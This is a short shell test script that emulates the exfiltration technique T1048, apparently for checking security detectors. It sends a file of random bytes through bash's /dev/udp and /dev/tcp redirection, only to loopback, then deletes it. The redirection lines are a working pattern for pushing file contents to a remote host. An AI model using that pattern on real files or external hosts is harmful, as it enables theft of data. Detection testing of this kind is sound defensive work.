#!/bin/sh
# case: T1048-exfil-by-bash-udp
# technique: Exfiltration: /dev/udp and /dev/tcp carry a file
# source: GTFOBins bash file upload; redcanaryco/atomic-red-team T1048-2
# needs: bash
# expect: net file exec
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
need bash
head -c 4096 /dev/urandom > "$W/d"; bash -c 'cat "$1" > /dev/udp/127.0.0.1/5353' x "$W/d" 2>/dev/null; bash -c 'cat "$1" > /dev/tcp/127.0.0.1/28999' x "$W/d" 2>/dev/null; true
exit 0
